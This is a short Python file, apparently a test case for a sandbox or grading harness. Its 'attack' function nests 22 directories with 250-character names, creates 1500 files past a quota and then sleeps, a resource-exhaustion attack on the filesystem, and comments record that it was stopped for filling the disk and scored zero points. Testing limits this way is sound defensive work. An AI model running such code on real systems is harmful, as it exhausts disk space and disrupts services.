"""Writes more files than the quota allows, below the longest path that the kernel accepts, and waits."""

# outcome: stopped: filled the disk space
# points: 0

import os
import time


def attack(world):
    for _ in range(22):
        os.mkdir("n" * 250)
        os.chdir("n" * 250)
    for number in range(1500):
        open(str(number), "x").close()
    time.sleep(1000)
